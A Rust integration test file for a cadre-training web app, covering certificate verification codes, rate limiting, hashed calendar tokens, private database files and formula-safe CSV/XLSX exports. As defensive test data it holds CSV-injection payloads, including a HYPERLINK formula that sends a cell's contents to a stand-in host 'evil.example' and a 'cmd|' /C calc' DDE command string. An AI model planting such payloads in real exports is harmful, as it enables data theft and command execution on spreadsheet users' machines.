//! Issue 14, public routes and personal data: certificate verification codes and the masked
//! answer without one, the check's rate limit, calendar feeds stored hashed and ended with the
//! account, private SQLite files, CSV exports that a spreadsheet cannot run, formats of free text.

use cadre_training::shared::clock::city_today;
use chrono::Duration;
use rocket::http::{ContentType, Status};
use serde_json::{json, Value};

use crate::cadres::cadre as cadre_body;
use crate::db_tests;
use crate::helpers::{Backend, TestApp};

db_tests!(
    certificate_check_needs_the_code_for_the_name,
    certificate_checks_are_rate_limited_per_address,
    certificates_from_before_get_codes_at_start,
    calendar_feed_is_kept_hashed_and_ends_with_the_account,
    feed_tokens_from_before_are_hashed_at_start,
    csv_exports_cannot_run_formulas,
    free_text_with_a_format_is_checked,
);

const NAME: &str = "Phạm Thị Hoa";
const PID: &str = "079180014001";
const OTHER: &str = "Võ Văn Bảy";
const OTHER_PID: &str = "079180014002";

struct Issued {
    admin: String,
    school: String,
    cadre_id: i64,
    /// The holder's own login.
    cadre: String,
    account_id: i64,
    no: String,
    code: String,
    other_no: String,
    other_code: String,
}

async fn ok(
    app: &TestApp,
    method: rocket::http::Method,
    path: &str,
    token: &str,
    body: Value,
) -> Value {
    let (s, v) = app.send(method, path, Some(token), body).await;
    assert!(s.code < 300, "{method} {path}: {s} {v}");
    v
}

/// Two cadres of Phường Tân Định finish a class; the first has a login.
async fn issue(app: &TestApp) -> Issued {
    use rocket::http::Method::{Post, Put};
    let admin = app.admin_token().await;
    app.import_hcmc(&admin).await;
    let school = app.account(&admin, "school.h14", "school", None).await;
    let today = city_today();
    let day = today - Duration::days(60);
    ok(app, Post, "/api/classes", &school, json!({"code": "H14-DONE", "module_code": "DV-03",
        "organiser": "Trường Cán bộ thành phố", "capacity": 10,
        "enrol_opens": (today - Duration::days(1)).to_string(), "enrol_closes": (today + Duration::days(30)).to_string(),
        "sessions": [{"starts_at": format!("{day}T08:00"), "ends_at": format!("{day}T11:00"), "venue": "Phòng H14", "instructor": "GV H14"}]})).await;
    ok(
        app,
        Post,
        "/api/classes/H14-DONE/status",
        &school,
        json!({"status": "open"}),
    )
    .await;
    let mut ids = vec![];
    for (name, pid) in [(NAME, PID), (OTHER, OTHER_PID)] {
        let mut body = cadre_body(name, pid, "26734");
        body["phone"] = json!("+84 909 123 456");
        let v = ok(app, Post, "/api/cadres", &admin, body).await;
        let id = v["id"].as_i64().unwrap();
        ok(
            app,
            Post,
            "/api/classes/H14-DONE/enrolments",
            &school,
            json!({"cadre_id": id}),
        )
        .await;
        ids.push(id);
    }
    let v = ok(
        app,
        Post,
        "/api/accounts",
        &admin,
        json!({"username": "cadre.hoa", "password": "lop-hoc-dan-van-2026",
        "role": "cadre", "unit_code": "26734", "cadre_id": ids[0]}),
    )
    .await;
    let account_id = v["id"].as_i64().unwrap();
    ok(
        app,
        Post,
        "/api/classes/H14-DONE/status",
        &school,
        json!({"status": "running"}),
    )
    .await;
    let (_, grid) = app
        .get("/api/classes/H14-DONE/attendance", Some(&school))
        .await;
    let session = grid["sessions"][0]["id"].as_i64().unwrap();
    let rows = grid["rows"].as_array().unwrap();
    let marks: Vec<Value> = rows
        .iter()
        .map(|r| json!({"enrolment_id": r["enrolment_id"], "status": "present"}))
        .collect();
    let results: Vec<Value> = rows
        .iter()
        .map(|r| json!({"enrolment_id": r["enrolment_id"], "score": 8.5, "passed": true}))
        .collect();
    ok(
        app,
        Put,
        &format!("/api/classes/H14-DONE/sessions/{session}/attendance"),
        &school,
        json!({"records": marks}),
    )
    .await;
    ok(
        app,
        Put,
        "/api/classes/H14-DONE/results",
        &school,
        json!({"results": results}),
    )
    .await;
    ok(
        app,
        Post,
        "/api/classes/H14-DONE/status",
        &school,
        json!({"status": "finished"}),
    )
    .await;
    let (_, done) = app
        .get("/api/classes/H14-DONE/completions", Some(&school))
        .await;
    let cert = |id: i64| {
        let c = done["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["cadre_id"] == id)
            .unwrap_or_else(|| panic!("{done}"));
        (
            c["certificate_no"].as_str().unwrap().to_string(),
            c["certificate_code"]
                .as_str()
                .unwrap_or_else(|| panic!("no code: {c}"))
                .to_string(),
        )
    };
    let (no, code) = cert(ids[0]);
    let (other_no, other_code) = cert(ids[1]);
    let cadre = app.token("cadre.hoa", "lop-hoc-dan-van-2026").await;
    Issued {
        admin,
        school,
        cadre_id: ids[0],
        cadre,
        account_id,
        no,
        code,
        other_no,
        other_code,
    }
}

fn is_code(c: &str) -> bool {
    c.len() == 10
        && c.bytes()
            .all(|b| b"23456789ABCDEFGHJKLMNPQRSTUVWXYZ".contains(&b))
}

async fn certificate_check_needs_the_code_for_the_name(app: TestApp) {
    let w = issue(&app).await;
    assert!(
        is_code(&w.code) && is_code(&w.other_code),
        "{} {}",
        w.code,
        w.other_code
    );
    assert_ne!(w.code, w.other_code);
    // The code is shown with the number wherever the holder or the school sees the certificate.
    let (_, mine) = app.get("/api/me", Some(&w.cadre)).await;
    assert_eq!(mine["completions"][0]["certificate_no"], w.no.as_str());
    assert_eq!(mine["completions"][0]["certificate_code"], w.code.as_str());
    let (_, theirs) = app
        .get(
            &format!("/api/cadres/{}/completions", w.cadre_id),
            Some(&w.school),
        )
        .await;
    assert_eq!(theirs["items"][0]["certificate_code"], w.code.as_str());
    let (s, _, csv) = app
        .get_bytes("/api/exports/completions", Some(&w.admin))
        .await;
    assert_eq!(s, Status::Ok);
    let csv = String::from_utf8(csv).unwrap();
    assert!(csv.lines().next().unwrap().contains("Mã xác thực"), "{csv}");
    assert!(
        csv.lines()
            .any(|l| l.contains(&w.no) && l.contains(&w.code)),
        "{csv}"
    );

    // The number alone: status, module, dates, initials; not the name, class or personal id.
    let (s, v) = app.get(&format!("/api/certificates/{}", w.no), None).await;
    assert_eq!(s, Status::Ok, "{v}");
    assert_eq!(v["verified"], false);
    assert_eq!(v["holder_name_masked"], "P*** T*** H***");
    assert_eq!(v["holder_name"], Value::Null);
    assert_eq!(v["class_code"], Value::Null);
    assert_eq!(v["module_code"], "DV-03");
    assert_eq!(v["status"], "valid");
    assert!(v["completed_on"].is_string());
    let text = v.to_string();
    for secret in ["Phạm", "Hoa", PID, &w.code] {
        assert!(!text.contains(secret), "{secret} in {text}");
    }
    // Walking the numbers gives nothing more.
    let (_, v2) = app
        .get(&format!("/api/certificates/{}", w.other_no), None)
        .await;
    assert_eq!(v2["holder_name_masked"], "V*** V*** B***");
    assert!(!v2.to_string().contains(OTHER));

    // With the code (as typed: lower case, a hyphen, spaces): everything public.
    let typed = format!("{}-{}", &w.code[..5], &w.code[5..]).to_lowercase();
    let (s, v) = app
        .get(
            &format!("/api/certificates/{}?code={}", w.no.to_lowercase(), typed),
            None,
        )
        .await;
    assert_eq!(s, Status::Ok, "{v}");
    assert_eq!(v["verified"], true);
    assert_eq!(v["holder_name"], NAME);
    assert_eq!(v["holder_name_masked"], "P*** T*** H***");
    assert_eq!(v["class_code"], "H14-DONE");
    assert!(!v.to_string().contains(PID));

    // Another certificate's code, a wrong code and a malformed one are refused, naming `code`.
    for bad in [w.other_code.as_str(), "22222-22222", "ABC", "0000000000"] {
        let (s, v) = app
            .get(&format!("/api/certificates/{}?code={bad}", w.no), None)
            .await;
        assert_eq!(s, Status::UnprocessableEntity, "{bad}: {v}");
        assert_eq!(v["error"]["field"], "code", "{v}");
        assert!(!v.to_string().contains("Phạm"), "{v}");
    }
    // The document describes the new answer and parameter (schemathesis checks against it).
    let (_, doc) = app.get("/api/openapi.json", None).await;
    let check = &doc["components"]["schemas"]["CertificateCheck"]["properties"];
    for p in [
        "verified",
        "holder_name_masked",
        "holder_name",
        "class_code",
    ] {
        assert!(check[p].is_object(), "CertificateCheck.{p}: {check}");
    }
    let op = &doc["paths"]["/api/certificates/{no}"]["get"];
    assert!(
        op["parameters"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["name"] == "code" && p["in"] == "query"),
        "{op}"
    );
    for status in ["422", "429"] {
        assert!(op["responses"][status].is_object(), "{status}: {op}");
    }
    assert!(
        doc["components"]["schemas"]["CompletionView"]["properties"]["certificate_code"]
            .is_object()
    );
    assert!(doc["components"]["schemas"]["CalendarFeed"]["properties"]["created_at"].is_object());
    // An unknown number is still 404, with or without a code.
    let (s, _) = app
        .get(
            &format!("/api/certificates/TCB-1999-999999?code={}", w.code),
            None,
        )
        .await;
    assert_eq!(s, Status::NotFound);
}

async fn certificate_checks_are_rate_limited_per_address(app: TestApp) {
    let app = app
        .another_instance(&[
            ("certificate_checks_max", json!(5)),
            ("certificate_checks_window_secs", json!(60)),
        ])
        .await;
    let check = |ip: &'static str, no: String| {
        let app = &app;
        async move {
            // From a socket address of its own (a client's X-Real-IP is not believed).
            let res = app
                .client
                .get(format!("/api/certificates/{no}"))
                .remote(format!("{ip}:40000").parse().unwrap())
                .dispatch()
                .await;
            let status = res.status();
            let headers: Vec<(String, String)> = res
                .headers()
                .iter()
                .map(|h| (h.name().to_string(), h.value().to_string()))
                .collect();
            let body = res.into_json::<Value>().await.unwrap_or(Value::Null);
            (status, body, headers)
        }
    };
    // Walking the numbers from one address: five answers, then 429 with Retry-After.
    for i in 0..5 {
        let (s, v, _) = check("203.0.113.7", format!("TCB-2026-{i:06}")).await;
        assert_eq!(s, Status::NotFound, "{v}");
    }
    let (s, v, h) = check("203.0.113.7", "TCB-2026-000005".into()).await;
    assert_eq!(s, Status::TooManyRequests, "{v}");
    assert_eq!(v["error"]["code"], "too_many_requests", "{v}");
    let retry: u64 = h
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("Retry-After"))
        .map(|(_, v)| v.parse().unwrap())
        .unwrap_or_else(|| panic!("no Retry-After: {h:?}"));
    assert!((1..=60).contains(&retry), "{retry}");
    // Still refused while the window lasts; another address is not affected.
    assert_eq!(
        check("203.0.113.7", "TCB-2026-000001".into()).await.0,
        Status::TooManyRequests
    );
    assert_eq!(
        check("198.51.100.2", "TCB-2026-000001".into()).await.0,
        Status::NotFound
    );
    // The limit lives in the database: a second app server counts the same checks.
    let other = app
        .another_instance(&[("certificate_checks_max", json!(5))])
        .await;
    let res = other
        .client
        .get("/api/certificates/TCB-2026-000001")
        .remote("203.0.113.7:40001".parse().unwrap())
        .dispatch()
        .await;
    assert_eq!(res.status(), Status::TooManyRequests);
}

/// Runs one statement on the app's database.
async fn exec(app: &TestApp, sql: &str) {
    cadre_training::on_db!(&app.state().db, |p| {
        sqlx::query(sql).execute(p).await.unwrap();
    });
}

async fn certificates_from_before_get_codes_at_start(app: TestApp) {
    let w = issue(&app).await;
    // As the certificates issued before migration 0009 were.
    exec(&app, "UPDATE completions SET certificate_code = NULL").await;
    let (_, list) = app
        .get(
            &format!("/api/cadres/{}/completions", w.cadre_id),
            Some(&w.school),
        )
        .await;
    assert_eq!(list["items"][0]["certificate_code"], Value::Null);
    // The next start gives each one a fresh code, which opens the full answer.
    let restarted = app.another_instance(&[]).await;
    let (_, list) = restarted
        .get(
            &format!("/api/cadres/{}/completions", w.cadre_id),
            Some(&w.school),
        )
        .await;
    let code = list["items"][0]["certificate_code"]
        .as_str()
        .unwrap_or_else(|| panic!("{list}"))
        .to_string();
    assert!(is_code(&code), "{code}");
    assert_ne!(code, w.code);
    let (_, other) = restarted
        .get("/api/classes/H14-DONE/completions", Some(&w.school))
        .await;
    let codes: Vec<&str> = other["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["certificate_code"].as_str())
        .collect();
    assert_eq!(codes.len(), 2, "{other}");
    assert_ne!(codes[0], codes[1]);
    let (s, v) = restarted
        .get(&format!("/api/certificates/{}?code={code}", w.no), None)
        .await;
    assert_eq!(s, Status::Ok, "{v}");
    assert_eq!(v["holder_name"], NAME);
    // A start with nothing to do changes nothing.
    let again = app.another_instance(&[]).await;
    let (_, list) = again
        .get(
            &format!("/api/cadres/{}/completions", w.cadre_id),
            Some(&w.school),
        )
        .await;
    assert_eq!(list["items"][0]["certificate_code"], code.as_str());
}

fn sha256_hex(s: &str) -> String {
    use sha2::{Digest, Sha256};
    Sha256::digest(s.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The stored rows of `feed_tokens`: (token_hash, hashed).
async fn feed_rows(app: &TestApp) -> Vec<(String, bool)> {
    cadre_training::on_db!(&app.state().db, |p| sqlx::query_as(
        "SELECT token_hash, hashed FROM feed_tokens"
    )
    .fetch_all(p)
    .await
    .unwrap())
}

async fn feed_status(app: &TestApp, path: &str) -> Status {
    app.client.get(path.to_string()).dispatch().await.status()
}

async fn calendar_feed_is_kept_hashed_and_ends_with_the_account(app: TestApp) {
    let w = issue(&app).await;
    let (s, t) = app
        .post("/api/me/calendar-token", Some(&w.cadre), json!({}))
        .await;
    assert_eq!(s, Status::Ok, "{t}");
    let token = t["token"].as_str().unwrap().to_string();
    let path = t["path"].as_str().unwrap().to_string();
    assert_eq!(feed_status(&app, &path).await, Status::Ok);
    // Only the hash is stored.
    assert_eq!(feed_rows(&app).await, [(sha256_hex(&token), true)]);
    // Deactivating the account ends the feed at once, and reactivating does not bring it back.
    let (s, v) = app
        .patch(
            &format!("/api/accounts/{}", w.account_id),
            Some(&w.admin),
            json!({"active": false}),
        )
        .await;
    assert_eq!(s, Status::Ok, "{v}");
    assert_eq!(feed_status(&app, &path).await, Status::NotFound);
    let (s, _) = app
        .patch(
            &format!("/api/accounts/{}", w.account_id),
            Some(&w.admin),
            json!({"active": true}),
        )
        .await;
    assert_eq!(s, Status::Ok);
    assert_eq!(feed_status(&app, &path).await, Status::NotFound);
    assert!(feed_rows(&app).await.is_empty());
    // A new link works; linking the account to another cadre ends it too.
    let cadre = app.token("cadre.hoa", "lop-hoc-dan-van-2026").await;
    let (_, t) = app
        .post("/api/me/calendar-token", Some(&cadre), json!({}))
        .await;
    let path = t["path"].as_str().unwrap().to_string();
    assert_eq!(feed_status(&app, &path).await, Status::Ok);
    let (_, others) = app
        .get("/api/cadres?q=vo%20van%20bay", Some(&w.admin))
        .await;
    let other_id = others["items"][0]["id"]
        .as_i64()
        .unwrap_or_else(|| panic!("{others}"));
    let (s, v) = app
        .patch(
            &format!("/api/accounts/{}", w.account_id),
            Some(&w.admin),
            json!({"cadre_id": other_id}),
        )
        .await;
    assert_eq!(s, Status::Ok, "{v}");
    assert_eq!(feed_status(&app, &path).await, Status::NotFound);
}

async fn feed_tokens_from_before_are_hashed_at_start(app: TestApp) {
    let w = issue(&app).await;
    // A token stored in plain text, as before migration 0009.
    let plain = "0123456789abcdef".repeat(4);
    let now = match app.backend {
        Backend::Sqlite => format!("'{}'", chrono::Utc::now().to_rfc3339()),
        Backend::Postgres => "now()".into(),
    };
    exec(&app, &format!("INSERT INTO feed_tokens (cadre_id, token_hash, hashed, created_at) VALUES ({}, '{plain}', FALSE, {now})", w.cadre_id)).await;
    let restarted = app.another_instance(&[]).await;
    assert_eq!(
        feed_rows(&restarted).await,
        [(sha256_hex(&plain), true)],
        "no plain token left"
    );
    // The link already in the cadre's phone keeps working.
    assert_eq!(
        feed_status(&restarted, &format!("/api/feeds/{plain}.ics")).await,
        Status::Ok
    );
    assert_eq!(
        feed_status(
            &restarted,
            &format!("/api/feeds/{}.ics", sha256_hex(&plain))
        )
        .await,
        Status::NotFound,
        "the hash is not a token"
    );
}

/// The SQLite file and its `-wal` and `-shm` hold personal ids and password hashes: owner only.
mod sqlite_database_files_are_private {
    use super::*;

    #[cfg(unix)]
    fn mode(path: &std::path::Path) -> u32 {
        use std::os::unix::fs::PermissionsExt;
        std::fs::metadata(path)
            .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
            .permissions()
            .mode()
            & 0o777
    }

    #[cfg(unix)]
    #[rocket::async_test]
    async fn sqlite() {
        let app = TestApp::sqlite().await;
        // A write, so that the WAL and shared-memory files exist.
        let admin = app.admin_token().await;
        app.account(&admin, "someone", "school", None).await;
        let file = std::path::PathBuf::from(app.url.strip_prefix("sqlite://").unwrap());
        for suffix in ["", "-wal", "-shm"] {
            let f = std::path::PathBuf::from(format!("{}{suffix}", file.display()));
            assert_eq!(mode(&f), 0o600, "{}", f.display());
        }
        // A database left readable by others by an earlier version is made private at start.
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
        let again = app.another_instance(&[]).await;
        assert_eq!(mode(&file), 0o600);
        drop(again);
    }
}

async fn csv_exports_cannot_run_formulas(app: TestApp) {
    use rocket::http::Method::Post;
    let w = issue(&app).await;
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Kinh\")";
    // Data from before the format checks (or written around them) with formula starts.
    exec(
        &app,
        &format!(
            "UPDATE cadres SET ethnicity = '{}' WHERE personal_id = '{PID}'",
            evil.replace('\'', "''")
        ),
    )
    .await;
    ok(&app, Post, &format!("/api/cadres/{}/completions", w.cadre_id), &w.school,
       json!({"module_code": "DV-01", "completed_on": "2019-05-02", "source_ref": "@SUM(1+1)*cmd|' /C calc'!A0", "score": 7.5})).await;
    ok(
        &app,
        Post,
        &format!("/api/certificates/{}/revoke", w.other_no),
        &w.school,
        json!({"reason": "-2+3; =1+1"}),
    )
    .await;
    let check = |what: &str, body: &[u8]| {
        assert!(body.starts_with(b"\xEF\xBB\xBF"), "{what}: BOM");
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(&body[3..]);
        let cells: Vec<String> = rdr
            .records()
            .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
            .collect();
        for c in &cells {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a cell a spreadsheet would run: {c:?}"
            );
        }
        cells
    };
    let (s, _, body) = app.get_bytes("/api/exports/cadres", Some(&w.admin)).await;
    assert_eq!(s, Status::Ok);
    let cells = check("cadres", &body);
    assert!(cells.contains(&format!("'{evil}")), "{cells:?}");
    assert!(cells.contains(&"'+84 909 123 456".to_string()), "{cells:?}");
    let (_, _, body) = app
        .get_bytes("/api/exports/completions", Some(&w.admin))
        .await;
    let cells = check("completions", &body);
    assert!(
        cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()),
        "{cells:?}"
    );
    assert!(
        cells.contains(&"'-2+3; =1+1".to_string()),
        "the ; is quoted so that it cannot split the cell: {cells:?}"
    );
    assert!(
        cells.contains(&"7.5".to_string()),
        "numbers stay numbers: {cells:?}"
    );
    let (_, _, body) = app.get_bytes("/api/exports/classes", Some(&w.admin)).await;
    check("classes", &body);
    let (s, _, body) = app
        .get_bytes(
            "/api/reports/gaps/cadres/export?format=csv&unit=79&status=all",
            Some(&w.admin),
        )
        .await;
    assert_eq!(s, Status::Ok);
    check("gap cadres", &body);

    // XLSX keeps the text as it is, as a string, never a formula; numbers stay numbers.
    use calamine::{Data, Reader, Xlsx};
    let (_, _, body) = app
        .get_bytes("/api/exports/cadres?format=xlsx", Some(&w.admin))
        .await;
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(body)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&sheet).unwrap();
    assert!(
        range
            .rows()
            .any(|r| r.iter().any(|c| *c == Data::String(evil.into()))),
        "the text as it is"
    );
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula cells"
    );
    let (_, _, body) = app
        .get_bytes("/api/exports/completions?format=xlsx", Some(&w.admin))
        .await;
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(body)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&sheet).unwrap();
    assert!(
        range.rows().any(|r| r.contains(&Data::Float(7.5))),
        "the score is a number"
    );

    // The cadre export re-imports as it is: the quotes come off again (the phone is valid).
    exec(
        &app,
        &format!("UPDATE cadres SET ethnicity = 'Kinh' WHERE personal_id = '{PID}'"),
    )
    .await;
    let (_, _, body) = app.get_bytes("/api/exports/cadres", Some(&w.admin)).await;
    let (s, v) = app
        .post_raw(
            "/api/imports/cadres?dry_run=true",
            Some(&w.admin),
            ContentType::CSV,
            body,
        )
        .await;
    assert_eq!(s, Status::Ok, "{v}");
}

async fn free_text_with_a_format_is_checked(app: TestApp) {
    let admin = app.admin_token().await;
    app.import_hcmc(&admin).await;
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Kinh\")";
    for (field, value) in [
        ("ethnicity", evil),
        ("religion", "@SUM(1)"),
        ("email", "=1+1@evil.vn"),
        ("email", "a\"b\"@c.vn"),
    ] {
        let mut body = cadre_body("Đỗ Văn Kiểm", "079180014009", "26734");
        body[field] = json!(value);
        let (s, v) = app.post("/api/cadres", Some(&admin), body).await;
        assert_eq!(s, Status::UnprocessableEntity, "{field}={value}: {v}");
        assert_eq!(v["error"]["field"], field, "{v}");
    }
    let mut body = cadre_body("Đỗ Văn Kiểm", "079180014009", "26734");
    body["ethnicity"] = json!("Ê Đê");
    body["religion"] = json!("Phật giáo");
    body["email"] = json!("kiem.do+hoc@mttq.hochiminhcity.gov.vn");
    let (s, v) = app.post("/api/cadres", Some(&admin), body).await;
    assert_eq!(s, Status::Created, "{v}");
    let id = v["id"].as_i64().unwrap();
    for (field, value) in [
        ("ethnicity", "-Kinh"),
        ("email", "kiem@evil"),
        ("religion", "Phật giáo;=1"),
    ] {
        let (s, v) = app
            .patch(
                &format!("/api/cadres/{id}"),
                Some(&admin),
                json!({ field: value }),
            )
            .await;
        assert_eq!(s, Status::UnprocessableEntity, "{field}={value}: {v}");
        assert_eq!(v["error"]["field"], field, "{v}");
    }
    // The import checks the same.
    let quoted = evil.replace('"', "\"\"");
    let file = format!(
        "\u{feff}Số CCCD/CMND;Họ và tên;Giới tính;Ngày sinh;Dân tộc;Mã đơn vị;Tổ chức;Thư điện tử\r\n079180014010;Lê Văn Nhập;Nam;01/01/1980;\"{quoted}\";26734;Mặt trận Tổ quốc;=1+1@evil.vn\r\n"
    );
    let (s, v) = app
        .post_raw(
            "/api/imports/cadres?dry_run=true",
            Some(&admin),
            ContentType::CSV,
            file.into_bytes(),
        )
        .await;
    assert_eq!(s, Status::UnprocessableEntity, "{v}");
    let text = v.to_string();
    assert!(text.contains("ethnicity may hold only letters"), "{text}");
    assert!(text.contains("email is not an e-mail address"), "{text}");
}
